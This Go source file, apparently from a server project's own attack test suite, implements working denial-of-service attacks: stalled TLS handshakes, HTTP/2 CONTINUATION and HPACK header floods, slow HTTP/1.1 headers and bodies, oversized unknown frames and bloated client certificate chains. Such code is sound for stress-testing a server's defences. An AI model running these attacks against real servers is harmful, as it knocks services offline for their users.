/*
Copyright The Restaurant API Server Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

	http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package attacks

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	mathbig "math/big"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// handshakes opens connections, sends the beginning of a TLS record, and nothing more.
func handshakes(ctx context.Context, a *attacker) {
	each := 16 * int(a.addresses)
	onConnections(ctx, func(ctx context.Context) {
		for range each {
			conn, err := a.dial(ctx)
			if err != nil {
				a.got("no connection")
				continue
			}
			defer conn.Close()
			a.got("sent")
			_, _ = conn.Write([]byte{22, 3, 1, 2})
		}
		<-ctx.Done()
	})
}

// endless opens connections, begins something over each that never ends, and does so again when
// the server has ended it.
func endless(protocol string, begin func(io.Writer, *attacker) error) func(context.Context, *attacker) {
	return func(ctx context.Context, a *attacker) {
		each := 16 * int(a.addresses) // As many as they may have.
		onConnections(ctx, func(ctx context.Context) {
			var all sync.WaitGroup
			for range each {
				all.Go(func() {
					for ctx.Err() == nil {
						over(ctx, a, protocol, func(conn net.Conn) {
							if err := begin(conn, a); err == nil {
								a.got("begun")
							}
							_, _ = io.Copy(io.Discard, conn)
						})
					}
				})
			}
			all.Wait()
		})
	}
}

// begunBytes of headers are less than the server ends at once.
const begunBytes = 320 << 10

// beginHeaders sends the headers of a request but for the last.
func beginHeaders(conn io.Writer, a *attacker) error {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	w := &wire{Framer: http2.NewFramer(conn, nil), attacker: a, stream: 1}
	if err := w.WriteSettings(); err != nil {
		return err
	}
	const each = 8 << 10
	if err := w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.block(http.MethodGet, menuPath)}); err != nil {
		return err
	}
	for range begunBytes / each {
		var block bytes.Buffer
		_ = hpack.NewEncoder(&block).WriteField(hpack.HeaderField{Name: "a", Value: strings.Repeat("b", each), Sensitive: true}) // To memory.
		if err := w.WriteContinuation(1, false, block.Bytes()); err != nil {
			return err
		}
	}
	return nil
}

// beginText does that in HTTP/1.1.
func beginText(conn io.Writer, _ *attacker) error {
	_, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: localhost\r\nA: "+strings.Repeat("b", begunBytes))
	return err
}

// beginMany begins as many headers as fit.
func beginMany(conn io.Writer, _ *attacker) error {
	var text bytes.Buffer
	text.WriteString("GET / HTTP/1.1\r\nHost: localhost\r\n")
	for n := 0; text.Len() < begunBytes; n++ {
		fmt.Fprintf(&text, "%x:\r\n", n)
	}
	_, err := conn.Write(text.Bytes())
	return err
}

// beginBodies ends these headers, but sends no body.
func beginBodies(conn io.Writer, a *attacker) error {
	if err := beginMany(conn, a); err != nil {
		return err
	}
	_, err := io.WriteString(conn, "Content-Length: 1\r\n\r\n")
	return err
}

// beginCookies sends requests whose cookies take a byte each, and allows no answer.
func beginCookies(conn io.Writer, a *attacker) error {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	w := &wire{Framer: http2.NewFramer(conn, nil), attacker: a, stream: 1}
	if err := w.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return err
	}
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for stream := range uint32(streams) {
		block.Reset()
		for _, field := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", menuPath}} {
			_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]})
		}
		for range 80 {
			_ = encoder.WriteField(hpack.HeaderField{Name: "cookie", Value: strings.Repeat("c", 4000)})
		}
		if err := w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1 + 2*stream, BlockFragment: block.Bytes(), EndHeaders: true, EndStream: true}); err != nil {
			return err
		}
	}
	return nil
}

// beginIndexed sends headers that take a byte each, since they are in the table of the connection.
func beginIndexed(conn io.Writer, a *attacker) error {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	w := &wire{Framer: http2.NewFramer(conn, nil), attacker: a, stream: 1}
	if err := w.WriteSettings(); err != nil {
		return err
	}
	if err := w.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.block(http.MethodGet, menuPath)}); err != nil {
		return err
	}
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for block.Len() < 9_000 { // Each counts 34 bytes.
		_ = encoder.WriteField(hpack.HeaderField{Name: "a", Value: "b"})
	}
	return w.WriteContinuation(1, false, block.Bytes())
}

// buffers opens connections, makes the server read a large frame, of a type that it does not
// know, over each, and leaves them alone.
func buffers(ctx context.Context, a *attacker) {
	const (
		frameBytes = 256 << 10
		frameType  = 0xf0
	)
	each := 16 * int(a.addresses)
	onConnections(ctx, func(ctx context.Context) {
		var all sync.WaitGroup
		for range each {
			all.Go(func() {
				framesOver(ctx, a, func(conn net.Conn) { _, _ = io.Copy(io.Discard, conn) }, func(ctx context.Context, w *wire) error {
					if err := w.WriteSettings(); err != nil {
						return err
					}
					if err := w.WriteRawFrame(frameType, 0, 0, make([]byte, frameBytes)); err != nil {
						return err
					}
					a.got("sent")
					<-ctx.Done()
					return nil
				})
			})
		}
		all.Wait()
	})
}

// certificates opens connections, presents as many certificates over each as the library accepts, and leaves them alone.
func certificates(ctx context.Context, a *attacker) {
	const each, chainBytes = 48, 62 << 10
	serial := []byte("a serial number")
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		a.got(err.Error())
		return
	}
	template := &x509.Certificate{SerialNumber: new(mathbig.Int).SetBytes(serial)}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		a.got(err.Error())
		return
	}
	begin := bytes.Index(der, serial)
	a.tls = a.tls.Clone()
	a.tls.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) {
		presented := &tls.Certificate{PrivateKey: key}
		for size := 0; size < chainBytes; size += len(der) + 3 {
			// The server would hold equal ones once.
			other := bytes.Clone(der)
			_, _ = rand.Read(other[begin+1 : begin+len(serial)])
			presented.Certificate = append(presented.Certificate, other)
		}
		return presented, nil
	}
	onConnections(ctx, func(ctx context.Context) {
		var all sync.WaitGroup
		for range each {
			all.Go(func() {
				over(ctx, a, "http/1.1", func(conn net.Conn) {
					a.got("presented")
					// TLS 1.3 has a client know by reading that the server has refused it.
					if _, err := conn.Read(make([]byte, 1)); err != nil && ctx.Err() == nil {
						a.got("refused")
					}
					select {
					case <-ctx.Done():
					case <-time.After(time.Second):
					}
				})
			})
		}
		all.Wait()
	})
}

// certificatesBegun begins handshakes with certificates that never arrive as a whole.
func certificatesBegun(ctx context.Context, a *attacker) {
	const each, chainBytes = 48, 250 << 10
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		a.got(err.Error())
		return
	}
	config := a.tls.Clone()
	config.GetClientCertificate = func(*tls.CertificateRequestInfo) (*tls.Certificate, error) {
		return &tls.Certificate{PrivateKey: key, Certificate: [][]byte{make([]byte, chainBytes)}}, nil
	}
	onConnections(ctx, func(ctx context.Context) {
		var all sync.WaitGroup
		for range each {
			all.Go(func() {
				raw, err := a.dialUntil(ctx)
				if err != nil {
					a.got("no connection")
					return
				}
				defer raw.Close()
				a.got("begun")
				_ = tls.Client(&partConn{Conn: raw, left: chainBytes - 1<<10}, config).HandshakeContext(ctx)
			})
		}
		all.Wait()
	})
}

// partConn keeps what its client writes last.
type partConn struct {
	net.Conn
	left int
}

// Write writes as much as is left.
func (c *partConn) Write(p []byte) (int, error) {
	n, err := c.Conn.Write(p[:min(len(p), c.left)])
	c.left -= n
	if err == nil && n < len(p) {
		_, _ = io.Copy(io.Discard, c.Conn)
		err = net.ErrClosed
	}
	return n, err
}
